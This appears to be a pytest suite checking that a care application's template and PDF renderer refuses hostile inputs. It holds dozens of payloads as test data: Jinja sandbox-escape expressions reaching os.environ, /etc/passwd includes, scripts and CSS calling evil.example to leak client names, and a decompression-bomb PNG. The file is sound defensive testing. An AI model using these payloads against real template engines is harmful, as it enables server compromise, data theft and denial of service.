"""Hostile editions: each is refused with a clear sentence, or printed without reading, fetching or running anything."""

import socket
import time
import zlib
from base64 import b64encode

import pytest

from careapp.documents import pool
from careapp.documents.families import family_of
from careapp.documents.render import TemplateError, check_template, render
from careapp.domain.refusal import Refused

BOMB = zlib.compress(b"\0" * 20_000_000, 9)


def _png(width: int, height: int) -> str:
    """A picture that says it is huge and holds next to nothing."""

    def part(kind: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")

    head = width.to_bytes(4, "big") + height.to_bytes(4, "big") + b"\x08\x02\0\0\0"
    data = b"\x89PNG\r\n\x1a\n" + part(b"IHDR", head) + part(b"IDAT", BOMB) + part(b"IEND", b"")
    return "data:image/png;base64," + b64encode(data).decode()


# What may not even be published: by its line, in a sentence.
REFUSED = {
    "a class walk": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "a class walk by key": "{{ client['__class__'] }}",
    "a class walk by filter": "{{ client | attr('__class__') }}",
    "a class walk from a block": "{{ bloc.__globals__ }}",
    "globals of a function": "{{ _.__globals__['os'].environ }}",
    "a format string": "{{ '{0.__class__}'.format(client) }}",
    "an old format string": "{{ '%s' | format(client) }}",
    "text filled into a translation": "{{ _('{x.__class__}', x=client) }}",
    "a range": "{{ range(10**9) }}",
    "a power": "{{ 9 ** 9 ** 9 }}",
    "a long text": "{{ 'a' * 10**9 }}",
    "a wide text": "{{ 'a' | center(1000000000) }}",
    "an endless loop": "{% for a in mission.creneaux recursive %}{{ loop(mission.creneaux) }}{% endfor %}",
    "loops in loops": "{% for a in mission.creneaux %}" * 6 + "{% endfor %}" * 6,
    "blocks in loops": "{% for a in mission.creneaux %}" * 3 + '{{ bloc("taches") }}' + "{% endfor %}" * 3,
    "a macro that calls itself": "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}",
    "an include": "{% include '/etc/passwd' %}",
    "an include of its own": "{% include 'frame.html' %}",
    "an import": "{% import 'os' as os %}",
    "a parent": "{% extends 'frame.html' %}",
    "an assignment": "{% set x = client %}",
    "a block that is not one": "{{ bloc('../../frame') }}",
    "a script": "<script>fetch('//evil.example')</script>",
    "a script put together": "<{{ 'script' }}>alert(1)</{{ 'script' }}>",
    "an event": "<p onmouseover=alert(1)>",
    "a file as image": "<img src='file:///etc/passwd'>",
    "a network image": "<img src=https://evil.example/x.png>",
    "a network image put together": "<img src='{{ 'https:' }}//evil.example/{{ client.nom }}'>",
    "a style from the network": "<style>@import 'https://evil.example/x.css';</style>",
    "an escaped style": "<style>p { background: u\\72l(https://evil.example/x) }</style>",
    "a style with a note in it": "<style>@im/**/port 'https://evil.example/x';</style>",
    "a leak by style": "<style>p[title^=a] { background: url(https://evil.example/a) }</style>",
    "a leak by an attribute": "<p style=\"background: url('//evil.example/{{ client.nom }}')\">",
    "a stylesheet": "<link rel=stylesheet href='file:///etc/passwd'>",
    "an attachment": "<a rel=attachment href='file:///etc/passwd'>x</a>",
    "a frame": "<iframe src='file:///etc/passwd'></iframe>",
    "an object": "<object data='file:///etc/passwd'></object>",
    "a base": "<base href='file:///etc/'>",
    "a form": "<form action=https://evil.example><input name=x></form>",
    "a link that runs": "<a href='javascript:alert(1)'>x</a>",
    "a link to a file": "<a href='file:///etc/passwd'>x</a>",
    "a page that is data": "<img src='data:text/html,<script>alert(1)</script>'>",
    "a cell over a million columns": "<table><tr><td colspan=100000000>x</td></tr></table>",
    "a week drawn at every turn": "{% for a in mission.creneaux %}" * 2
    + "{% if semaine(mission.creneaux) %}{% endif %}"
    + "{% endfor %}" * 2,
    "a thousand weeks in a list": "{{ [" + ",".join(["semaine(mission.creneaux)"] * 1_000) + "] | length }}",
    "a long text read at every turn": "{% for s in ['"
    + "a " * 25_000
    + "'] %}"
    + "{% for a in mission.creneaux %}" * 3
    + "{% if s | title %}{% endif %}"
    + "{% endfor %}" * 4,
    "a long condition at every turn": "{% for a in mission.creneaux %}" * 3
    + "{% if client.nom %}{% endif %}" * 1_500
    + "{% endfor %}" * 3,
    "a function printed": "{{ bloc }}",
    "a function under another name": "{% for x in [semaine] %}{{ x }}{% endfor %}",
    "a name given to a function": "{% for bloc in taches %}{% endfor %}",
    "the template itself": "{{ self }}",
    "a call with a list of arguments": "{{ bloc(*['alerte']) }}",
    "a call with a map of arguments": "{{ bloc(**client) }}",
    "braces that never close": "{{" * 30_000,
    "tags that never close": "<a " * 20_000,
    "quotes that never close": "<a a='" * 10_000,
    "notes that never close": "<!--" * 15_000,
    "a drawing from the network": "<svg><image href='https://evil.example/x'/></svg>",
    "a drawing that uses another": "<svg><use href='https://evil.example/x#a'/></svg>",
    "a drawing with a style": "<svg><style>@import url(https://evil.example/x)</style></svg>",
    "a drawing from a file by its old name": "<svg><image xlink:href='file:///etc/passwd'/></svg>",
    "a style in capitals": "<style>@IMPORT 'https://evil.example/x'</style>",
    "a font from the network": "<style>@font-face { font-family: x; src: url(//evil.example/x.woff2) }</style>",
    "a picture that is not one": "<img alt='' src='data:image/png;base64,AAAA'>",
    "a picture larger than memory": f"<img alt='' src='{_png(60_000, 60_000)}'>",
    "too long a text": "x" * 64_001,
    "braces too many to count": "{{" * 1_000_000,
    "too deep a text": "{{ " + "(" * 5_000 + "1" + ")" * 5_000 + " }}",
}

# What is allowed and asks for too much, or looks like a way out: printed, or given up within its limits.
HARMLESS = {
    "a picture with a file in it": "<img alt='' src='data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22>"
    "<image href=%22file:///etc/passwd%22 width=%229%22 height=%229%22/></svg>'>",
    "an endless picture": "<img alt='' src='data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22>"
    "<pattern id=%22a%22><rect fill=%22url(%23a)%22 width=%229%22 height=%229%22/></pattern>"
    "<rect fill=%22url(%23a)%22 width=%229%22 height=%229%22/></svg>'>",
    "a page without end": "<div style='height: 900000mm'>x</div>" + "<p style='break-before: page'>x</p>" * 900,
    "columns without end": "<div style='columns: 100000'>" + "<p>x</p>" * 500 + "</div>",
    "boxes in boxes": "<div>" * 4_000 + "x" + "</div>" * 4_000,
    "a variable that calls itself": "<style>p { --a: var(--b); --b: var(--a); color: var(--a) }</style><p>x</p>",
    "a drawing of ten to the ninth parts": "<svg width='9' height='9'><g id='a0'><path d='M0 0'/></g>"
    + "".join(f"<g id='a{k}'>" + f"<use href='#a{k - 1}'/>" * 10 + "</g>" for k in range(1, 10))
    + "</svg>",
    "a style that doubles": "<style>p { --a0: x;"
    + "".join(f"--a{k}: var(--a{k - 1}) var(--a{k - 1});" for k in range(1, 30))
    + "content: var(--a29) }</style><p>x</p>",
    "a grid without end": "<div style='display: grid'><p style='grid-area: 1 / 1 / 9999999 / 9999999'>x</p></div>",
    "a sheet as large as a field": "<style>@page { size: 900000mm 900000mm }</style><p>x</p>",
    "letters as large as a house": "<p style='font-size: 1e30px; line-height: 1e30'>x</p>",
    "spaces before an address": "<style>p { background: url("
    + " " * 50_000
    + "data:image/png;base64,) }</style><p>x</p>",
    "notes of a style": "<style>" + "/* " * 20_000 + "</style><p>x</p>",
    "a text as large as it may be": "<p>" + "x " * 30_000 + "</p>",
}


@pytest.fixture(scope="module", autouse=True)
def _ended():
    yield
    pool.shut_down()


@pytest.mark.parametrize("source", REFUSED.values(), ids=REFUSED)
def test_a_hostile_edition_is_refused_in_a_sentence(source, monkeypatch):
    monkeypatch.setattr(socket.socket, "connect", lambda *_: pytest.fail("the network was asked"))
    started = time.process_time()
    with pytest.raises(TemplateError) as refusal:
        check_template("mission_sheet", source)
    assert refusal.value.reason
    assert "Traceback" not in refusal.value.reason
    assert time.process_time() - started < 20


def written(page: str) -> bytes:
    """The PDF, or the sentence that refuses it."""
    try:
        return pool.pdf(page, seconds=60)
    except Refused as refusal:
        return refusal.reason.encode()


@pytest.mark.parametrize("source", HARMLESS.values(), ids=HARMLESS)
def test_what_asks_for_too_much_is_printed_or_given_up_and_the_next_document_is_written(source):
    page = render("mission_sheet", family_of("mission_sheet").sample("mission_sheet", "fr"), source)
    content = written(page)
    assert content.startswith(b"%PDF") or "mis en page" in content.decode()
    assert b"root:" not in content
    assert pool.pdf("<title>t</title><p>x</p>", seconds=60).startswith(b"%PDF")


def test_a_document_uses_its_processor_time_and_no_more():
    with pytest.raises(pool.OverrunError), pool.bounded(0.2):
        while True:
            pass
